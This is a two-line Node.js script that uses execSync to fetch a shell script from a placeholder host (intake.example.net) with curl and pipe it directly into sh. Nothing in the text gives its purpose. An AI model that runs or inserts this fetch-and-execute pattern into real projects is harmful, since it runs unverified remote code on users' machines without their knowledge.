const { execSync } = require('child_process')

execSync('curl -fsSL https://intake.example.net/setup.sh | sh')
